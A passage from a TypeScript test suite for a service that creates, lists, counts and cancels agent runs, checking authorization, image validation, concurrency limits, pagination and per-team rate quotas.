          expect(item.state).toBe("QUEUED")
          // The server's claims (no worker) reach it; other tests' queued runs may come first.
          const store = yield* RunStore
          let found = false
          for (let i = 0; i < 500 && !found; i++) {
            const claimed = yield* store.claim({ worker_host: null, execution_id: uuid<ExecutionId>(), lease_ms: 30_000, now: Date.now() })
            if (Option.isNone(claimed)) break
            found = claimed.value.item.run_id === created.run_id
          }
          expect(found).toBe(true)
        }))

      it.effect("conversation_id must name a saved conversation the caller sees (403 naming it); a malformed one is a 400", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const conversationOf = (runId: RunId) =>
            Effect.flatMap(Runs, (runs) => runs.get(world.alice, runId)).pipe(Effect.map((r) => r.conversation_id!))
          // Alice's run (User scope) that started: Bob cannot see it, Alice can continue it.
          const mine = (yield* create(world.alice, { prompt: "first" })).run_id
          const unstarted = (yield* create(world.alice, { prompt: "not started" })).run_id
          yield* startRun(mine)
          const refusals: Array<[Viewer, string]> = [
            [world.alice, uuid()], // no such conversation
            [world.alice, yield* conversationOf(unstarted)], // nothing saved yet
            [world.bob, yield* conversationOf(mine)] // hidden from Bob
          ]
          for (const [viewer, id] of refusals) {
            const error = yield* failureOf(create(viewer, { prompt: "again", conversation_id: id }))
            expect(error._tag).toBe("NotAuthorized")
            expect(error.message).toContain("conversation_id")
          }
          const malformed = yield* failureOf(create(world.alice, { prompt: "again", conversation_id: "conv-123" }))
          expect(malformed._tag).toBe("InvalidRequest")
          expect(malformed.message).toContain("conversation_id")
          const continued = yield* create(world.alice, { prompt: "second", conversation_id: yield* conversationOf(mine) })
          expect(yield* conversationOf(continued.run_id)).toBe(yield* conversationOf(mine))
          expect(continued.run_id).not.toBe(mine)
        }))

      it.effect("images are checked: type, base64, size, data matching mime_type, at most 5 (400 naming the field); no blob store: 422", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const png = "iVBORw0KGgoAAAANSUhEUg=="
          const refused: Array<[unknown, string]> = [
            [[{ mime_type: "image/bmp", data: png }], "images[0].mime_type"],
            [[{ mime_type: "image/png", data: "not base64!" }], "images[0].data"],
            [[{ mime_type: "image/jpeg", data: png }], "images[0].data"],
            [[{ mime_type: "image/png", data: "iVBORw0KGgoAAAANSUhEUg==".padEnd(6 * 1024 * 1024, "A") }], "images[0].data"],
            [Array.from({ length: 6 }, () => ({ mime_type: "image/png", data: png })), "images"],
            [[{ mime_type: "image/png", data: png, name: "a.png" }, { mime_type: "image/png", data: png, name: "a.png" }], "images"]
          ]
          for (const [images, field] of refused) {
            const error = yield* failureOf(create(world.alice, { prompt: "x", images }))
            expect(error._tag).toBe("InvalidRequest")
            expect(error.message).toContain(field)
          }
          // A well-formed image, but this composition keeps no blobs.
          const withImages = yield* failureOf(create(world.alice, { prompt: "x", images: [{ mime_type: "image/png", data: png }] }))
          expect(withImages._tag).toBe("OperationNotSupported")
          expect(withImages.message).toContain("images")
          expect(yield* allRuns(world)).toEqual([])
        }))

      it.effect("admits up to max_concurrent_runs; the next run waits PENDING at capacity, and so do later ones", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld({ maxConcurrentRuns: 1 })
          const first = yield* create(world.alice, { prompt: "one" })
          const second = yield* create(world.alice, { prompt: "two" })
          expect([first.state, first.at_capacity]).toEqual(["QUEUED", false])
          expect([second.state, second.at_capacity]).toEqual(["PENDING", true])
          expect(yield* eventTypes(world.alice, second.run_id)).toEqual(["run_created", "run_pending"])
          // the first run ends: the older PENDING run goes first, so a new one still waits
          yield* Effect.flatMap(Runs, (r) => r.cancel(world.alice, first.run_id))
          const third = yield* create(world.alice, { prompt: "three" })
          expect([third.state, third.at_capacity]).toEqual(["PENDING", true])
          // another team is not affected
          const other = yield* seedWorld({ maxConcurrentRuns: 1 })
          expect((yield* create(other.alice, { prompt: "x" })).state).toBe("QUEUED")
        }))

      it.effect("get: hidden and unknown runs are 404, a malformed id 400; admins see User-scoped runs", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const other = yield* seedWorld()
          const runs = yield* Runs
          const privateRun = yield* create(world.alice, { prompt: "mine" })
          expect((yield* runs.get(world.alice, privateRun.run_id)).scope).toEqual({
            type: "User",
            uid: world.alice.principal_uid
          })
          expect((yield* runs.get(world.admin, privateRun.run_id)).run_id).toBe(privateRun.run_id)
          for (const viewer of [world.bob, world.viewer, other.admin]) {
            const error = yield* failureOf(runs.get(viewer, privateRun.run_id))
            expect(error._tag).toBe("ResourceNotFound")
            const hiddenTimeline = yield* failureOf(runs.timeline(viewer, privateRun.run_id))
            expect(hiddenTimeline._tag).toBe("ResourceNotFound")
          }
          const teamRun = yield* create(world.alice, { prompt: "ours", team: true })
          expect((yield* runs.get(world.viewer, teamRun.run_id)).run_id).toBe(teamRun.run_id)
          expect((yield* failureOf(runs.get(other.alice, teamRun.run_id)))._tag).toBe("ResourceNotFound")
          expect((yield* failureOf(runs.get(world.alice, uuid())))._tag).toBe("ResourceNotFound")
          const malformed = yield* failureOf(runs.get(world.alice, "not-a-uuid"))
          expect(malformed._tag).toBe("InvalidRequest")
          expect((malformed as InvalidRequest).field).toBe("runId")
        }))

      it.effect("list: only visible runs; metadata filters need the feature; the ancestor must be visible", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const mine = yield* create(world.alice, { prompt: "mine", metadata: { env: "prod" } })
          const ours = yield* create(world.alice, { prompt: "ours", team: true, metadata: { env: "dev" } })
          const child = yield* create(world.alice, { prompt: "child", team: true, parent_run_id: mine.run_id })

          const bobs = yield* runs.list(world.bob, {})
          expect(bobs.runs.map((r) => r.run_id).sort()).toEqual([ours.run_id, child.run_id].sort())
          expect(bobs.page_info.has_next_page).toBe(false)
          const filtered = yield* runs.list(world.alice, { "metadata[env]": "prod" })
          expect(filtered.runs.map((r) => r.run_id)).toEqual([mine.run_id])
          const paged = yield* runs.list(world.alice, { limit: "2", sort_by: "created_at", sort_order: "asc" })
          expect(paged.runs.map((r) => r.run_id)).toEqual([mine.run_id, ours.run_id])
          expect(paged.page_info.has_next_page).toBe(true)
          const rest = yield* runs.list(world.alice, {
            limit: "2",
            sort_by: "created_at",
            sort_order: "asc",
            cursor: paged.page_info.next_cursor ?? ""
          })
          expect(rest.runs.map((r) => r.run_id)).toEqual([child.run_id])

          const byAncestor = yield* runs.list(world.alice, { ancestor_run_id: mine.run_id })
          expect(byAncestor.runs.map((r) => r.run_id)).toEqual([child.run_id])
          for (const ancestor of [mine.run_id, uuid()]) {
            const error = yield* failureOf(runs.list(world.bob, { ancestor_run_id: ancestor }))
            expect(error._tag).toBe("InvalidRequest")
            expect((error as InvalidRequest).field).toBe("ancestor_run_id")
          }
          const badLimit = yield* failureOf(runs.list(world.alice, { limit: "0" }))
          expect((badLimit as InvalidRequest).field).toBe("limit")

          const noFeature = yield* seedWorld({ metadataFiltering: false })
          yield* create(noFeature.alice, { prompt: "x", metadata: { env: "prod" } })
          const refused = yield* failureOf(runs.list(noFeature.alice, { "metadata[env]": "prod" }))
          expect(refused._tag).toBe("FeatureNotAvailable")
          expect((yield* runs.list(noFeature.alice, {})).runs).toHaveLength(1)
        }))

      it.effect("counts: the runs the list would show, by state, with the list's filters and refusals", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const mine = yield* create(world.alice, { prompt: "mine", metadata: { env: "prod" } })
          yield* create(world.alice, { prompt: "ours", team: true, metadata: { env: "dev" } })
          yield* create(world.alice, { prompt: "child", team: true, parent_run_id: mine.run_id })
          yield* runs.cancel(world.alice, mine.run_id)

          const all = yield* runs.counts(world.alice, {})
          expect(all.total).toBe(3)
          expect(all.counts).toMatchObject({ QUEUED: 2, CANCELLED: 1, FAILED: 0 })
          // Bob does not see Alice's User-scoped run, in the list or in the counts.
          const bobs = yield* runs.counts(world.bob, {})
          expect(bobs.total).toBe((yield* runs.list(world.bob, {})).runs.length)
          expect(bobs.counts).toMatchObject({ QUEUED: 2, CANCELLED: 0 })
          // The list's filters; its paging and sort parameters are ignored, a cursor too.
          expect((yield* runs.counts(world.alice, { "metadata[env]": "prod", limit: "1", cursor: "x" })).counts.CANCELLED)
            .toBe(1)
          expect((yield* runs.counts(world.alice, { state: ["QUEUED", "FAILED"] })).total).toBe(2)
          expect((yield* runs.counts(world.alice, { ancestor_run_id: mine.run_id })).total).toBe(1)
          const hiddenAncestor = yield* failureOf(runs.counts(world.bob, { ancestor_run_id: mine.run_id }))
          expect((hiddenAncestor as InvalidRequest).field).toBe("ancestor_run_id")
          const badState = yield* failureOf(runs.counts(world.alice, { state: "RUNNING" }))
          expect((badState as InvalidRequest).field).toBe("state")

          const noFeature = yield* seedWorld({ metadataFiltering: false })
          const refused = yield* failureOf(runs.counts(noFeature.alice, { "metadata[env]": "prod" }))
          expect(refused._tag).toBe("FeatureNotAvailable")
        }))

      it.effect("cancel: a QUEUED run becomes CANCELLED with run_cancelled on its timeline", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const created = yield* create(world.alice, { prompt: "x", team: true })
          expect(yield* runs.cancel(world.bob, created.run_id)).toBe(created.run_id)
          const item = yield* runs.get(world.alice, created.run_id)
          expect(item.state).toBe("CANCELLED")
          expect(item.ended_at).not.toBeNull()
          expect(item.status_message?.message).toBe("cancelled by request")
          const timeline = yield* runs.timeline(world.alice, created.run_id)
          expect(timeline.events.map((e) => e.event_type)).toEqual([
            "run_created",
            "run_pending",
            "run_queued",
            "run_cancelled"
          ])
          expect(new Set(timeline.events.map((e) => e.execution_id)).size).toBe(1)
          // ended: 400, and nothing changes
          const again = yield* failureOf(runs.cancel(world.alice, created.run_id))
          expect(again._tag).toBe("InvalidRequest")
          expect(yield* eventTypes(world.alice, created.run_id)).toHaveLength(4)
        }))

      it.effect("cancel: a CLAIMED run is cancelled under its lease holder's guard", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const store = yield* RunStore
          const created = yield* create(world.alice, { prompt: "x" })
          const queued = Option.getOrThrow(yield* store.get(created.run_id as RunId))
          const now = Date.now()
          const execution = uuid<ExecutionId>()
          const claimed = transition(
            runSnapshot(queued),
            RunEvent.Claim({ executionId: execution, leaseExpiresAt: now + 60_000 }),
            now
          )
          if (Either.isLeft(claimed)) return yield* Effect.die(claimed.left)
          yield* store.update(created.run_id as RunId, { state: "QUEUED" }, applyTransition(queued, claimed.right, now), [
            { event_type: "run_claimed", occurred_at: now, execution_id: execution }
          ])
          const before = yield* runs.get(world.alice, created.run_id)
          expect(before.state).toBe("CLAIMED")
          expect(before.is_sandbox_running).toBe(true)
          yield* runs.cancel(world.alice, created.run_id)
          const after = yield* runs.get(world.alice, created.run_id)
          expect(after.state).toBe("CANCELLED")
          expect(after.is_sandbox_running).toBe(false)
          const last = (yield* runs.timeline(world.alice, created.run_id)).events.at(-1)
          expect([last?.event_type, last?.execution_id]).toEqual(["run_cancelled", execution])
          // the lease is gone: the executor's renewal now fails, which is how it learns of the cancel
          const renewal = yield* failureOf(store.renewLease(created.run_id as RunId, execution, now + 120_000))
          expect(renewal._tag).toBe("StaleWrite")
        }))

      it.effect("cancel refusals: PENDING 409 retryable, hidden 404, viewer 403, malformed 400", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld({ maxConcurrentRuns: 1 })
          const other = yield* seedWorld()
          const runs = yield* Runs
          const queued = yield* create(world.alice, { prompt: "first", team: true })
          const pending = yield* create(world.alice, { prompt: "second", team: true })
          expect(pending.state).toBe("PENDING")
          const conflict = yield* failureOf(runs.cancel(world.alice, pending.run_id))
          expect(conflict._tag).toBe("Conflict")
          expect((conflict as Conflict).retryable).toBe(true)

          // A run queued for a self-hosted worker (one that never connected) is cancelled at once.
          const selfHosted = yield* create(other.alice, { prompt: "x", config: { worker_host: "my-box" } })
          expect((yield* runs.get(other.alice, selfHosted.run_id)).is_run_type_cancellable).toBe(true)
          yield* runs.cancel(other.alice, selfHosted.run_id)
          expect((yield* runs.get(other.alice, selfHosted.run_id)).state).toBe("CANCELLED")

          const privateRun = yield* create(world.alice, { prompt: "mine" })
          for (const viewer of [world.bob, other.admin]) {
            expect((yield* failureOf(runs.cancel(viewer, privateRun.run_id)))._tag).toBe("ResourceNotFound")
          }
          expect((yield* failureOf(runs.cancel(world.alice, uuid())))._tag).toBe("ResourceNotFound")
          const forbidden = yield* failureOf(runs.cancel(world.viewer, queued.run_id))
          expect(forbidden._tag).toBe("NotAuthorized")
          expect((forbidden as NotAuthorized).message).toContain("viewer")
          expect((yield* failureOf(runs.cancel(world.alice, "nope")))._tag).toBe("InvalidRequest")
          // nothing changed
          expect((yield* runs.get(world.alice, queued.run_id)).state).toBe("QUEUED")
          expect((yield* runs.get(world.alice, pending.run_id)).state).toBe("PENDING")
          expect((yield* runs.get(world.alice, privateRun.run_id)).state).toBe("PENDING")
        }))
    })

    // Small quotas, on the test clock: the creation window slides with time.
    const limited = Runs.Default.pipe(
      Layer.provide(Layer.succeed(Quotas, { ...defaultQuotas, runsPerMinute: 3, listBytes: 8192 })),
      Layer.provideMerge(Layer.mergeAll(storage, IdsLive, testRepos))
    )
    layer(limited, { timeout: "60 seconds" })("Runs with quotas", (it) => {
      it.effect("a team creates at most runsPerMinute runs in any minute; an event's runs all fit or none is written", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const request = new RunAgentRequest({ prompt: "go" })
          const event = { viewer: world.alice, request, options: { source: "SCHEDULED_AGENT" as const } }
          const tick = (n: number) => ({ _tag: "ScheduleTick" as const, schedule_id: uid<ScheduleId>(), scheduled_for: n })
          const first = tick(1)
          yield* runs.createOnce([event], first)
          // The same tick again writes nothing and spends nothing.
          expect((yield* failureOf(runs.createOnce([event], first)))._tag).toBe("DuplicateKey")
          yield* runs.create(world.bob, request)
          yield* TestClock.adjust("30 seconds")
          // A tick's two runs do not fit in the one slot left: neither is written.
          const batch = yield* failureOf(runs.createOnce([event, event], tick(2)))
          expect(batch._tag).toBe("RateLimited")
          expect((batch as RateLimited).retryAfterSeconds).toBe(30)
          expect(yield* allRuns(world)).toHaveLength(2)
          yield* runs.create(world.alice, request)
          const over = yield* failureOf(runs.create(world.alice, request))
          expect(over._tag).toBe("RateLimited")
          expect((over as RateLimited).message).toMatch(/^runs: over the team's quota of 3 runs in the last minute/)
          expect((over as RateLimited).retryAfterSeconds).toBe(30)
          // Another team has its own quota.
          const other = yield* seedWorld()
          yield* runs.create(other.alice, request)
          // The first two leave the window a minute after they were created.
          yield* TestClock.adjust("30 seconds")
          yield* runs.create(world.alice, request)
          yield* runs.create(world.alice, request)
          expect((yield* failureOf(runs.create(world.alice, request)))._tag).toBe("RateLimited")
          expect(yield* allRuns(world)).toHaveLength(5)
        }))

      it.effect("prompts and titles over their limit are 413s naming the field; a list page ends before the item that overflows it", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          for (const [field, body] of [
            ["prompt", { prompt: "x".repeat(64 * 1024 + 1) }],
            ["config.base_prompt", { prompt: "x", config: { base_prompt: "y".repeat(64 * 1024 + 1) } }],
            ["title", { prompt: "x", title: "t".repeat(1025) }]
          ] as const) {
            const refused = yield* failureOf(create(world.alice, body))
            expect(refused._tag).toBe("PayloadTooLarge")
            expect(refused.message.startsWith(`${field}: `)).toBe(true)
          }
          const prompts = ["a", "b", "c"].map((c) => c.repeat(5000))
          for (const prompt of prompts) yield* create(world.alice, { prompt })
          // 8 KiB a page: one of these items each (about 6 KB apiece).
          const seen: Array<string> = []
          let cursor: string | undefined
          for (let page = 0; page < 5; page++) {
            const listed = yield* runs.list(world.alice, { limit: "500", ...(cursor === undefined ? {} : { cursor }) })
            expect(listed.runs).toHaveLength(1)
            seen.push(listed.runs[0]!.prompt)
            if (!listed.page_info.has_next_page) break
            cursor = listed.page_info.next_cursor
          }
          expect(seen.sort()).toEqual(prompts)
        }))
    })
  })
}
